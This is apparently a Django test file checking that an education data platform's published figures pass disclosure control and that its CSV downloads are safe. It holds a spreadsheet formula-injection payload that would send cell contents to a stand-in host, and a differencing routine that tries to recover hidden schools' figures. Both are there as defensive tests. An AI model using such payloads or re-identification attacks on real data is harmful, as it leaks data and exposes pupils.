"""Issue 13: every published figure passes disclosure control, and downloads are safe to open.

Each test plays an attack as an outsider (any member of the network) would, through the pages,
CSV files and the API, and shows that it no longer recovers a hidden figure.
"""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from netlearn.charter.tests.factories import build_charter
from netlearn.impact import selectors, services
from netlearn.impact.models import DatasetKind, ModelRun, PupilRecord, RunStatus

from .factories import finished_run, import_csv, pupil_csv, school_csv, shared_measure


def client_for(person) -> Client:
    client = Client()
    client.force_login(person)
    return client


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


# CSV downloads (item 8) ----------------------------------------------------------------------


def test_a_measure_named_like_a_formula_heads_its_column_as_text_and_empty_cells_stay_empty(
    world,
):
    measure = services.define_measure(
        network=world.network,
        by=world.co_leader,
        name='=HYPERLINK("https://evil.example/?"&A1,"Reading")',
        code="reading-evil",
        unit="%",
    )
    a, b, c = (s.reference for s in (world.school_a, world.school_b, world.school_c))
    # Alder's disadvantage is not known: its cell is empty, not a lone apostrophe.
    text = school_csv(
        [
            (a, 2024, 61.0, 31, None, 1, 1),
            (b, 2024, -2.0, 40, 1, 1, 1),
            (c, 2024, 63.0, 58, 1, 1, 1),
        ]
    )
    dataset = import_csv(world.network, by=world.data_lead, text=text, measure=measure)
    rows = read_csv(client_for(world.teacher).get(reverse("impact:schools_csv", args=[dataset.pk])))
    assert rows[0][2] == "'" + measure.name
    by_school = {row[0]: row for row in rows[1:]}
    assert by_school["Alder Primary"][4] == ""
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


# Model runs (item 3) -------------------------------------------------------------------------


def small_school_pupils(world, *, keep: int = 2):
    """The Exam data's shape: Cedar Academy (URN 900003) holds only `keep` pupils."""
    rows = pupil_csv(world, per_school=12).replace("score,prior", "normexam,standLRT")
    lines = rows.splitlines()
    kept = [lines[0]] + [
        line for line in lines[1:] if not line.startswith("P2") or int(line[2:5]) < keep
    ]
    return import_csv(
        world.network,
        by=world.data_lead,
        text="\n".join(kept) + "\n",
        kind=DatasetKind.PUPIL,
        name="Exam",
        mapping={"pupil": 0, "school": 1, "year": 2, "outcome": 3, "prior": 4, "fsm": 5, "sex": 6},
    )


def test_a_run_publishing_a_school_of_two_pupils_as_a_fixed_effect_is_refused_through_the_api(
    world,
):
    dataset = small_school_pupils(world)
    response = client_for(world.data_lead).post(
        f"/api/v1/impact/datasets/{dataset.pk}/runs",
        {"formula": "normexam ~ school + (1|sex)"},
        content_type="application/json",
    )
    assert response.status_code == 400, response.content
    detail = response.json()["detail"]
    assert "“school”" in detail and "“900003”" in detail and "fewer than 6 pupils" in detail
    assert not ModelRun.objects.exists()


def test_a_run_publishing_a_small_level_is_refused_on_the_page_with_the_term_and_level(world):
    dataset = small_school_pupils(world)
    client = client_for(world.co_leader)
    response = client.post(
        reverse("impact:request_run", args=[dataset.pk]),
        {"formula": "normexam ~ standLRT + school + (1|sex)"},
        follow=True,
    )
    page = response.content.decode()
    assert "“school”" in page and "“900003”" in page and "fewer than 6 pupils" in page
    assert not ModelRun.objects.exists()


def test_an_interaction_of_two_factors_is_refused_before_the_run_naming_the_term(world):
    dataset = small_school_pupils(world, keep=12)
    response = client_for(world.data_lead).post(
        f"/api/v1/impact/datasets/{dataset.pk}/runs",
        {"formula": "normexam ~ school:sex + (1|year)"},
        content_type="application/json",
    )
    assert response.status_code == 400
    assert "school:sex" in response.json()["detail"]
    assert not ModelRun.objects.exists()


def test_a_factor_whose_levels_all_hold_enough_pupils_runs_and_is_published(world):
    dataset = small_school_pupils(world, keep=12)
    run = services.request_run(
        dataset=dataset, by=world.data_lead, formula="normexam ~ standLRT + sex + (1|school)"
    )
    services.run_model(run_id=run.pk)
    run.refresh_from_db()
    assert run.status == RunStatus.DONE, run.error
    fixed = {row["name"]: row for row in selectors.run_report(run=run).fixed}
    assert isinstance(fixed["sexM"]["estimate"], float)
    assert isinstance(fixed["(Intercept)"]["se"], float)
    assert isinstance(fixed["standLRT"]["estimate"], float)


def test_a_run_whose_data_shrank_after_it_was_asked_for_fails_instead_of_publishing(world):
    dataset = small_school_pupils(world, keep=12)
    run = services.request_run(
        dataset=dataset, by=world.data_lead, formula="normexam ~ school + (1|sex)"
    )
    PupilRecord.objects.filter(dataset=dataset, school=world.school_c).exclude(
        pupil__in=["P2000", "P2001"]
    ).delete()
    services.run_model(run_id=run.pk)
    run.refresh_from_db()
    assert run.status == RunStatus.FAILED and "“900003”" in run.error
    assert run.results is None


def fitted_results(**fixed_levels):
    results = {
        "formula": "normexam ~ standLRT + school + (1|sex)",
        "n_obs": 26,
        "n_dropped": 0,
        "fixed_effects": {
            "(Intercept)": {"estimate": 0.1234, "se": 0.2},
            "standLRT": {"estimate": 0.6, "se": 0.05},
            "school900002": {"estimate": 0.4, "se": 0.25},
            "school900003": {"estimate": 0.8123, "se": 0.61},
        },
        "variances": {"sex": 0.01, "Residual": 0.3},
        "icc": 0.03,
        "loglik": -20.0,
        "effects": {},
    }
    if fixed_levels:
        results["fixed_levels"] = fixed_levels
    return results


def test_a_stored_coefficient_on_a_small_level_is_published_as_c(world):
    dataset = small_school_pupils(world)
    run = finished_run(
        dataset,
        by=world.data_lead,
        formula="normexam ~ standLRT + school + (1|sex)",
        results=fitted_results(
            school={
                "levels": ["900001", "900002", "900003"],
                "counts": [12, 12, 2],
                "coefficients": ["school900002", "school900003"],
            }
        ),
    )
    detail = client_for(world.teacher).get(f"/api/v1/impact/runs/{run.pk}").json()
    fixed = {row["name"]: row for row in detail["fixed_effects"]}
    assert fixed["school900003"] == {"name": "school900003", "estimate": "c", "se": "c"}
    assert fixed["school900002"]["estimate"] == 0.4  # rests on 12 and 12 pupils
    assert fixed["standLRT"]["estimate"] == 0.6  # a numeric column rests on every pupil
    assert fixed["(Intercept)"]["estimate"] == 0.1234
    page = client_for(world.teacher).get(run.get_absolute_url()).content.decode()
    assert "0.8123" not in page and "0.6100" not in page


def test_a_small_reference_level_hides_the_intercept_and_the_whole_factor(world):
    dataset = small_school_pupils(world)
    run = finished_run(
        dataset,
        by=world.data_lead,
        formula="normexam ~ standLRT + school + (1|sex)",
        results=fitted_results(
            school={
                "levels": ["900001", "900002", "900003"],
                "counts": [3, 12, 12],
                "coefficients": ["school900002", "school900003"],
            }
        ),
    )
    fixed = {row["name"]: row for row in selectors.run_report(run=run).fixed}
    assert {name for name, row in fixed.items() if row["estimate"] == "c"} == {
        "(Intercept)",
        "school900002",
        "school900003",
    }


def test_a_run_stored_before_levels_were_kept_hides_every_factor_coefficient(world):
    dataset = small_school_pupils(world)
    run = finished_run(
        dataset,
        by=world.data_lead,
        formula="normexam ~ standLRT + school + (1|sex)",
        results=fitted_results(),
    )
    fixed = {row["name"]: row for row in selectors.run_report(run=run).fixed}
    assert fixed["standLRT"]["estimate"] == 0.6
    assert {name for name, row in fixed.items() if row["estimate"] == "c"} == {
        "(Intercept)",
        "school900002",
        "school900003",
    }


@pytest.mark.parametrize("role", ["member", "partner", "school_lead", "safeguarding_lead"])
def test_people_who_only_read_results_do_not_queue_runs(world, role):
    dataset = small_school_pupils(world, keep=12)
    person = world.people_by_role()[role]
    response = client_for(person).post(
        f"/api/v1/impact/datasets/{dataset.pk}/runs",
        {"formula": "normexam ~ standLRT + (1|school)"},
        content_type="application/json",
    )
    assert response.status_code == 403
    assert not ModelRun.objects.exists()


# Differencing (item 4) -----------------------------------------------------------------------


def number(figure) -> bool:
    return isinstance(figure, int | float) and not isinstance(figure, bool)


def schools_of(person, dataset) -> dict:
    return client_for(person).get(f"/api/v1/impact/datasets/{dataset.pk}/schools").json()


def recover(tables: list[dict], school: str):
    """The outsider's attack: a table whose network total is shown, minus every other school's
    figure taken from whichever table shows it, gives back `school` (cohort and value)."""
    shown: dict[str, tuple[float, int]] = {}
    for table in tables:
        for row in table["schools"]:
            if isinstance(row["value"], float) and isinstance(row["pupils"], int):
                shown.setdefault(row["school"], (row["value"], row["pupils"]))
    for table in tables:
        total = table["trend"][-1]
        if not isinstance(total["network"], float) or not isinstance(total["network_pupils"], int):
            continue
        others = [row["school"] for row in table["schools"] if row["school"] != school]
        if school not in {row["school"] for row in table["schools"]}:
            continue
        if not all(other in shown for other in others):
            continue
        cohort = total["network_pupils"] - sum(shown[other][1] for other in others)
        if cohort <= 0:
            continue
        value = (
            total["network"] * total["network_pupils"]
            - sum(shown[other][0] * shown[other][1] for other in others)
        ) / cohort
        return cohort, round(value, 1)
    return None


def test_two_overlapping_datasets_no_longer_give_back_a_hidden_school(world):
    a, b, c = (s.reference for s in (world.school_a, world.school_b, world.school_c))
    # The authority's file and the network's own hold the same cohorts of KS2 2024.
    first = import_csv(
        world.network,
        by=world.data_lead,
        name="KS2 2024 (network)",
        text=school_csv(
            [
                (a, 2024, 38.0, 4, 1, 1, 1),
                (b, 2024, 61.0, 30, 1, 1, 1),
                (c, 2024, 70.0, 40, 1, 1, 1),
            ]
        ),
    )
    second = import_csv(
        world.network,
        by=world.data_lead,
        name="KS2 2024 (authority)",
        text=school_csv([(b, 2024, 61.0, 30, 1, 1, 1), (c, 2024, 70.0, 40, 1, 1, 1)]),
    )
    tables = [schools_of(world.partner, first), schools_of(world.partner, second)]
    assert recover(tables, "Alder Primary") is None
    # Nor does one total minus the other (they differ by Alder alone).
    totals = [table["trend"][-1] for table in tables]
    assert sum(number(total["network_pupils"]) for total in totals) <= 1
    # Every table agrees on which cohorts are hidden.
    hidden = [
        {row["school"] for row in table["schools"] if row["value"] == "c"} for table in tables
    ]
    assert hidden[0] & {"Birch Primary", "Cedar Academy"} == hidden[1]
    # The CSV downloads carry the same decisions.
    client = client_for(world.partner)
    for dataset, table in zip((first, second), tables, strict=True):
        rows = read_csv(client.get(reverse("impact:schools_csv", args=[dataset.pk])))
        assert {row[0] for row in rows[1:] if row[2] == "c"} == {
            row["school"] for row in table["schools"] if row["value"] == "c"
        }
        trend = read_csv(client.get(reverse("impact:trend_csv", args=[dataset.pk])))
        assert (trend[-1][1] == "c") == (table["trend"][-1]["network"] == "c")


def test_a_total_does_not_give_back_hidden_schools_that_are_small_together(world):
    a, b, c = (s.reference for s in (world.school_a, world.school_b, world.school_c))
    dataset = import_csv(
        world.network,
        by=world.data_lead,
        text=school_csv(
            [(a, 2024, 40.0, 2, 1, 1, 1), (b, 2024, 50.0, 3, 1, 1, 1), (c, 2024, 70.0, 58, 1, 1, 1)]
        ),
    )
    table = schools_of(world.partner, dataset)
    values = {row["school"]: row["value"] for row in table["schools"]}
    assert values["Alder Primary"] == values["Birch Primary"] == "c"
    total = table["trend"][-1]
    # Shown, the total minus Cedar would be Alder and Birch together: 5 pupils, mean 46.0.
    if isinstance(total["network_pupils"], int) and isinstance(values["Cedar Academy"], float):
        pytest.fail(f"the total gives back 5 pupils: {total}")
    trend = read_csv(client_for(world.partner).get(reverse("impact:trend_csv", args=[dataset.pk])))
    assert trend[-1][1:3] == ["c", "c"] or values["Cedar Academy"] == "c"
    page = client_for(world.partner).get(dataset.get_absolute_url()).content.decode()
    assert "<td>61</td>" not in page and "46.0" not in page


def new_zealand(world):
    world.network.country = "NZ"
    world.network.save()


def test_new_zealand_network_totals_are_rounded_to_base_three(world):
    new_zealand(world)
    a, b, c = (s.reference for s in (world.school_a, world.school_b, world.school_c))
    dataset = import_csv(
        world.network,
        by=world.data_lead,
        text=school_csv(
            [
                (a, 2024, 61.0, 100, 1, 1, 1),
                (b, 2024, 62.0, 70, 1, 1, 1),
                (c, 2024, 63.0, 78, 1, 1, 1),
            ]
        ),
    )
    total = schools_of(world.teacher, dataset)["trend"][-1]
    assert total["network_pupils"] in (246, 249)
    trend = read_csv(client_for(world.teacher).get(reverse("impact:trend_csv", args=[dataset.pk])))
    assert trend[-1][2] in ("246", "249")
    page = client_for(world.teacher).get(dataset.get_absolute_url()).content.decode()
    assert "<td>248</td>" not in page


def test_new_zealand_pupil_counts_of_a_run_and_a_dataset_are_rounded(world):
    new_zealand(world)
    dataset = small_school_pupils(world, keep=10)  # 34 pupils
    run = services.request_run(
        dataset=dataset, by=world.data_lead, formula="normexam ~ standLRT + (1|school)"
    )
    services.run_model(run_id=run.pk)
    detail = client_for(world.teacher).get(f"/api/v1/impact/runs/{run.pk}").json()
    assert detail["n_obs"] in (33, 36)
    listed = client_for(world.teacher).get("/api/v1/impact/datasets").json()["items"][0]
    assert listed["rows"] in (33, 36)


def test_new_zealand_charter_goals_take_a_mean_only_over_twenty_pupils(world):
    new_zealand(world)
    _, _, goal, *_ = build_charter(world.network, by=world.co_leader)
    services.link_goal(goal=goal, measure=shared_measure("ks2-rwm"), by=world.co_leader)
    a, b = world.school_a.reference, world.school_b.reference
    # 16 pupils: a figure England would publish, New Zealand's rules would not.
    import_csv(
        world.network,
        by=world.data_lead,
        text=school_csv([(a, 2024, 61.0, 8, 1, 1, 1), (b, 2024, 65.0, 8, 1, 1, 1)]),
    )
    assert not goal.progress.filter(recorded_by__isnull=True).exists()
    page = client_for(world.teacher).get(reverse("charter:detail", args=[world.network.slug]))
    assert "63.0" not in page.content.decode() and "over 16 pupils" not in page.content.decode()


def test_the_charter_figure_is_the_one_total_published_across_overlapping_datasets(world):
    _, _, goal, *_ = build_charter(world.network, by=world.co_leader)
    services.link_goal(goal=goal, measure=shared_measure("ks2-rwm"), by=world.co_leader)
    a, b, c = (s.reference for s in (world.school_a, world.school_b, world.school_c))
    first = import_csv(
        world.network,
        by=world.data_lead,
        text=school_csv([(b, 2024, 61.0, 30, 1, 1, 1), (c, 2024, 70.0, 40, 1, 1, 1)]),
    )
    # Alder's 2 pupils arrive in a second file of the same cohorts: the two totals differ by
    # Alder alone, so at most one of them is published, and the charter shows that one.
    second = import_csv(
        world.network,
        by=world.data_lead,
        name="KS2 2024 (with Alder)",
        text=school_csv(
            [
                (a, 2024, 38.0, 2, 1, 1, 1),
                (b, 2024, 61.0, 30, 1, 1, 1),
                (c, 2024, 70.0, 40, 1, 1, 1),
            ]
        ),
    )
    totals = [selectors.school_report(dataset=d).trend[-1].network for d in (first, second)]
    shown = [total for total in totals if not total.suppressed]
    assert len(shown) <= 1
    figures = [float(e.value) for e in goal.progress.filter(recorded_by__isnull=True)]
    if shown:
        assert figures == [pytest.approx(shown[0].value, abs=0.05)]
    else:
        assert figures == []
    assert round((61 * 30 + 70 * 40) / 70, 3) not in figures


def test_a_charter_figure_that_may_no_longer_be_published_is_withdrawn(world):
    _, _, goal, *_ = build_charter(world.network, by=world.co_leader)
    services.link_goal(goal=goal, measure=shared_measure("ks2-rwm"), by=world.co_leader)
    b, c = world.school_b.reference, world.school_c.reference
    import_csv(
        world.network,
        by=world.data_lead,
        text=school_csv([(b, 2024, 61.0, 30, 1, 1, 1), (c, 2024, 70.0, 40, 1, 1, 1)]),
    )
    assert goal.progress.filter(recorded_by__isnull=True).count() == 1
    # The file is corrected: the same schools held 3 and 2 pupils.
    import_csv(
        world.network,
        by=world.data_lead,
        text=school_csv([(b, 2024, 61.0, 3, 1, 1, 1), (c, 2024, 70.0, 2, 1, 1, 1)]),
    )
    assert not goal.progress.filter(recorded_by__isnull=True).exists()
    assert goal.progress.filter(recorded_by__isnull=False).count() == 1  # people's entries stay
